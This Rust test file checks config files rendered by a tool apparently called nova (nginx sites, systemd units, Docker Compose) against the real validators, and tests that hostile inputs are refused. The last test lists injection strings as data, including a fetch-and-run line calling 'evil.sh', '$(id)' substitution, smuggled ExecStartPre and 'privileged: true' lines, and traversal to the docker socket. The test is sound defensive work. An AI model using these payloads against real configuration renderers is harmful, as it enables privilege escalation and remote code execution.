//! Rendered host configs checked by the real tools (`nginx -t`, `systemd-analyze verify`, the
//! Compose specification's JSON schema), and hostile inputs refused before any rendering.

use std::path::Path;
use std::process::Command;

use anyhow::{Context, Result, ensure};
use nova::render::{self, ComposeApp, ComposeHealth, ComposeService, Service, Site, SiteTls};

fn site(name: &str, domains: &[&str], tls: Option<SiteTls>, include_dir: &Path) -> Site {
    Site {
        name: name.into(),
        domains: domains.iter().map(|d| d.to_string()).collect(),
        active_port: 5001,
        tls,
        body_size: "10m".into(),
        acme_webroot: "/var/www/acme".into(),
        api_rate_per_second: 20,
        login_rate_per_minute: 10,
        include_dir: include_dir.display().to_string(),
    }
}

fn service(exec: &[&str]) -> Service {
    Service {
        description: "Shop API (100% uptime goal)".into(),
        user: "root".into(),
        working_directory: "/srv/shop".into(),
        environment_file: "/etc/nova/shop.env".into(),
        exec: exec.iter().map(|s| s.to_string()).collect(),
        memory_max: Some("512m".into()),
        cpu_quota_percent: Some(150),
    }
}

fn app() -> ComposeApp {
    ComposeApp {
        image: "registry.example.com:5000/acme/shop:1.4.2".into(),
        port: 8080,
        host_port: 5001,
        entrypoint: vec!["/app".into()],
        command: vec!["--name".into(), "a \"b\" $HOME ${X} \\ é".into()],
        environment: vec![("GREETING".into(), "100% $HOME: #1 'x'".into())],
        env_file: Some("/etc/nova/shop.env".into()),
        volumes: vec![("/srv/shop/data".into(), "/data".into())],
        memory_limit: Some("512m".into()),
        health: Some(ComposeHealth {
            path: "/healthz".into(),
            interval_seconds: 5,
            timeout_seconds: 2,
            retries: 3,
        }),
    }
}

/// `nginx -t` on a prefix holding the rendered site; the certificate is a real one (rcgen).
fn nginx_t(sites: &[(&str, &[&str], bool)]) -> Result<std::process::Output> {
    let dir = tempfile::tempdir()?;
    let cert = rcgen::generate_simple_self_signed(vec!["shop.example.com".to_string()])?;
    std::fs::write(dir.path().join("cert.pem"), cert.cert.pem())?;
    std::fs::write(dir.path().join("key.pem"), cert.signing_key.serialize_pem())?;
    let mut includes = String::new();
    for (name, domains, tls) in sites {
        let tls = tls.then(|| SiteTls {
            certificate: dir.path().join("cert.pem").display().to_string(),
            key: dir.path().join("key.pem").display().to_string(),
        });
        let r = render::nginx_site(&site(name, domains, tls, dir.path()))?;
        std::fs::write(dir.path().join(&r.proxy_include_file), r.proxy_include)?;
        std::fs::write(dir.path().join(format!("{name}.conf")), r.site)?;
        includes.push_str(&format!("    include {}/{name}.conf;\n", dir.path().display()));
    }
    let conf = format!(
        "error_log {d}/error.log;\npid {d}/nginx.pid;\nevents {{}}\nhttp {{\n    access_log off;\n{includes}}}\n",
        d = dir.path().display()
    );
    std::fs::write(dir.path().join("nginx.conf"), conf)?;
    Ok(Command::new("nginx")
        .arg("-t")
        .arg("-p")
        .arg(dir.path())
        .arg("-c")
        .arg(dir.path().join("nginx.conf"))
        .output()?)
}

#[test]
fn nginx_accepts_rendered_sites_with_and_without_tls() -> Result<()> {
    let out = nginx_t(&[
        ("shop", &["shop.example.com", "www.shop.example.com"], true),
        ("blog-site", &["blog.example.com"], false),
    ])?;
    ensure!(
        out.status.success(),
        "nginx -t refused the rendered config:\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let dir = tempfile::tempdir()?;
    let r = render::nginx_site(&site("shop", &["shop.example.com"], None, dir.path()))?;
    assert!(r.site.contains("server 127.0.0.1:5001;"), "the upstream points at the active colour");
    assert!(r.site.contains("/.well-known/acme-challenge/"));
    Ok(())
}

#[test]
fn nginx_refuses_a_broken_config_so_the_check_means_something() -> Result<()> {
    // Two sites with the same name declare the same upstream twice: nginx -t must say no.
    let out = nginx_t(&[("shop", &["a.example.com"], false), ("shop", &["b.example.com"], false)])?;
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("duplicate upstream"));
    Ok(())
}

#[test]
fn systemd_verifies_rendered_units() -> Result<()> {
    let dir = tempfile::tempdir()?;
    let unit = render::systemd_service(&service(&[
        "/usr/bin/env",
        "GREETING=100% $HOME",
        "echo",
        "a \"quoted\" arg",
    ]))?;
    assert!(unit.contains("ExecStart=\"/usr/bin/env\" \"GREETING=100%% $$HOME\""), "{unit}");
    assert!(unit.contains("Description=Shop API (100%% uptime goal)"));
    let path = dir.path().join("nova-shop.service");
    std::fs::write(&path, unit)?;
    let timer = dir.path().join("nova-shop.timer");
    std::fs::write(&timer, render::systemd_timer("Nightly backup of shop", "*-*-* 03:00:00", 600)?)?;
    // verify wants the program to exist; any executable stands in for the compose wrapper.
    let compose = dir.path().join("nova-shop-compose.service");
    std::fs::write(
        &compose,
        render::systemd_compose_service(&ComposeService {
            description: "Shop (green, compose)".into(),
            project: "nova-shop-green".into(),
            file: "/etc/nova/apps/shop/green.compose.yaml".into(),
            compose: "/usr/bin/env".into(),
            working_directory: "/etc/nova/apps/shop".into(),
        })?,
    )?;
    // The compose unit requires docker.service, which the machine running the tests need not
    // have: a unit of that name in a directory of our own, searched before the system's,
    // stands in for it, so the check is the same with or without Docker installed.
    let units = dir.path().join("units");
    std::fs::create_dir(&units)?;
    std::fs::write(
        units.join("docker.service"),
        "[Unit]\nDescription=Docker stand-in\n[Service]\nExecStart=/usr/bin/env\n",
    )?;
    let out = Command::new("systemd-analyze")
        .env("SYSTEMD_UNIT_PATH", format!("{}:", units.display()))
        .arg("verify")
        .arg(&path)
        .arg(&timer)
        .arg(&compose)
        .output()?;
    let err = String::from_utf8_lossy(&out.stderr);
    ensure!(out.status.success(), "systemd-analyze verify:\n{err}");
    assert!(!err.contains("nova-shop"), "no complaint about our units: {err}");
    Ok(())
}

#[test]
fn systemd_verify_catches_a_bad_unit_so_the_check_means_something() -> Result<()> {
    let dir = tempfile::tempdir()?;
    let path = dir.path().join("nova-bad.service");
    std::fs::write(&path, "[Service]\nExecStart=relative/path\n")?;
    let out = Command::new("systemd-analyze").arg("verify").arg(&path).output()?;
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("bad unit file setting"));
    Ok(())
}

fn compose_schema() -> Result<serde_json::Value> {
    // The Compose specification's schema, from the compose-go module (the Go module proxy is
    // the one place it can come from here).
    let out = Command::new("go")
        .args(["mod", "download", "-json", "github.com/compose-spec/compose-go/v2@v2.16.2"])
        .env("GOFLAGS", "-mod=mod")
        .env("GOTOOLCHAIN", "local")
        .current_dir(std::env::temp_dir())
        .output()?;
    ensure!(out.status.success(), "go mod download: {}", String::from_utf8_lossy(&out.stderr));
    let info: serde_json::Value = serde_json::from_slice(&out.stdout)?;
    let dir = info["Dir"].as_str().context("module dir")?;
    Ok(serde_json::from_str(&std::fs::read_to_string(Path::new(dir).join("schema/compose-spec.json"))?)?)
}

#[test]
fn compose_file_follows_the_compose_specification() -> Result<()> {
    let schema = compose_schema()?;
    let validator = jsonschema::validator_for(&schema).map_err(|e| anyhow::anyhow!("schema: {e}"))?;
    let rendered = render::compose(&app())?;
    let doc: serde_json::Value = serde_yaml::from_str(&rendered)?;
    let errors: Vec<String> = validator.iter_errors(&doc).map(|e| e.to_string()).collect();
    assert!(errors.is_empty(), "{errors:?}\n{rendered}");
    let svc = &doc["services"]["app"];
    assert_eq!(svc["ports"][0], "127.0.0.1:5001:8080");
    // What compose reads after its own `$$` → `$` step is exactly what was given.
    let unescaped = |v: &serde_json::Value| v.as_str().unwrap_or_default().replace("$$", "$");
    assert_eq!(unescaped(&svc["command"][1]), "a \"b\" $HOME ${X} \\ é");
    assert_eq!(unescaped(&svc["environment"]["GREETING"]), "100% $HOME: #1 'x'");
    assert_eq!(svc["mem_limit"], "512m");

    // The same validator refuses a file that breaks the specification.
    let bad: serde_json::Value =
        serde_yaml::from_str("services:\n  app:\n    restart: sometimes\n    ports: 5\n")?;
    assert!(!validator.is_valid(&bad));
    Ok(())
}

#[test]
fn environment_file_quotes_values() -> Result<()> {
    let env = render::environment_file(&[
        ("A".into(), "plain".into()),
        ("B".into(), r#"with "quotes" and \ back"#.into()),
    ])?;
    assert!(env.contains("A=\"plain\"\n"));
    assert!(env.contains(r#"B="with \"quotes\" and \\ back""#), "{env}");
    Ok(())
}

#[test]
fn hostile_inputs_are_refused_with_the_field_named() {
    let d = Path::new("/etc/nginx/nova");
    let nginx = |f: &dyn Fn(&mut Site)| {
        let mut s = site("shop", &["shop.example.com"], None, d);
        f(&mut s);
        render::nginx_site(&s).err()
    };
    let unit = |f: &dyn Fn(&mut Service)| {
        let mut s = service(&["/usr/bin/shop"]);
        f(&mut s);
        render::systemd_service(&s).err()
    };
    let compose = |f: &dyn Fn(&mut ComposeApp)| {
        let mut a = app();
        f(&mut a);
        render::compose(&a).err()
    };
    let cases: Vec<(&str, Option<render::Invalid>, &str)> = vec![
        (
            "directive after domain",
            nginx(&|s| s.domains = vec!["a.com; include /etc/passwd".into()]),
            "domains[0]",
        ),
        ("new server block", nginx(&|s| s.domains = vec!["a.com}\nserver{".into()]), "domains[0]"),
        ("wildcard domain", nginx(&|s| s.domains = vec!["*.example.com".into()]), "domains[0]"),
        ("uppercase/underscore domain", nginx(&|s| s.domains = vec!["Bad_Host.com".into()]), "domains[0]"),
        ("name with braces", nginx(&|s| s.name = "x{y}".into()), "name"),
        ("body size directive", nginx(&|s| s.body_size = "10m; autoindex on".into()), "bodySize"),
        ("port zero", nginx(&|s| s.active_port = 0), "activePort"),
        ("port too big", nginx(&|s| s.active_port = 70000), "activePort"),
        (
            "cert path with space",
            nginx(&|s| s.tls = Some(SiteTls { certificate: "/a b".into(), key: "/k".into() })),
            "tls.certificate",
        ),
        (
            "key path traversal",
            nginx(&|s| s.tls = Some(SiteTls { certificate: "/c".into(), key: "/etc/../root/key".into() })),
            "tls.key",
        ),
        ("relative webroot", nginx(&|s| s.acme_webroot = "var/www".into()), "acmeWebroot"),
        ("no domains", nginx(&|s| s.domains.clear()), "domains"),
        (
            "newline in description",
            unit(&|s| s.description = "x\n[Service]\nExecStartPre=/bin/sh".into()),
            "description",
        ),
        ("user with newline", unit(&|s| s.user = "app\nUser=root".into()), "user"),
        ("root user with space", unit(&|s| s.user = "root admin".into()), "user"),
        ("relative program", unit(&|s| s.exec = vec!["sh".into(), "-c".into(), "id".into()]), "exec[0]"),
        (
            "newline in argument",
            unit(&|s| s.exec = vec!["/bin/app".into(), "x\nExecStartPost=/bin/sh".into()]),
            "exec[1]",
        ),
        ("empty command", unit(&|s| s.exec.clear()), "exec"),
        ("working dir with ..", unit(&|s| s.working_directory = "/srv/../etc".into()), "workingDirectory"),
        ("env file with semicolon", unit(&|s| s.environment_file = "/etc/x;rm".into()), "environmentFile"),
        (
            "memory limit injection",
            unit(&|s| s.memory_max = Some("1G\nMemoryMax=infinity".into())),
            "memoryMax",
        ),
        ("image with YAML", compose(&|a| a.image = "shop:1\n    privileged: true".into()), "image"),
        ("image with shell", compose(&|a| a.image = "shop:$(id)".into()), "image"),
        (
            "health path with shell",
            compose(&|a| {
                if let Some(h) = a.health.as_mut() {
                    h.path = "/h; curl evil.sh | sh".into()
                }
            }),
            "health.path",
        ),
        (
            "health path with quote",
            compose(&|a| {
                if let Some(h) = a.health.as_mut() {
                    h.path = "/h\" || true #".into()
                }
            }),
            "health.path",
        ),
        (
            "volume to the docker socket via traversal",
            compose(&|a| a.volumes = vec![("/srv/../var/run/docker.sock".into(), "/s".into())]),
            "volumes[0].host",
        ),
        (
            "volume with options",
            compose(&|a| a.volumes = vec![("/data".into(), "/d:rw,z".into())]),
            "volumes[0].container",
        ),
        (
            "compose environment key that is YAML",
            compose(&|a| a.environment = vec![("A: x\n      privileged".into(), "1".into())]),
            "environment[0].name",
        ),
        (
            "compose environment value with a line break",
            compose(&|a| a.environment = vec![("A".into(), "1\nB: 2".into())]),
            "environment[0].value",
        ),
        (
            "compose memory limit with YAML",
            compose(&|a| a.memory_limit = Some("1g\n    privileged: true".into())),
            "memoryLimit",
        ),
        (
            "compose project with a space",
            render::systemd_compose_service(&ComposeService {
                description: "d".into(),
                project: "my app".into(),
                file: "/f".into(),
                compose: "/c".into(),
                working_directory: "/w".into(),
            })
            .err(),
            "project",
        ),
        ("env key with =", render::environment_file(&[("A=B".into(), "x".into())]).err(), "env[0].name"),
        (
            "env value with newline",
            render::environment_file(&[("A".into(), "x\nB=evil".into())]).err(),
            "env[0].value",
        ),
        ("calendar with newline", render::systemd_timer("t", "daily\nOnBootSec=1", 0).err(), "onCalendar"),
    ];
    assert!(cases.len() >= 20);
    for (what, err, field) in cases {
        let err = err.unwrap_or_else(|| panic!("{what}: accepted"));
        assert_eq!(err.field, field, "{what}: {err}");
        assert!(!err.accepted.is_empty(), "{what}: says what would be accepted");
        assert!(!err.to_string().contains('\n'), "{what}: the message is one line: {err}");
    }
}
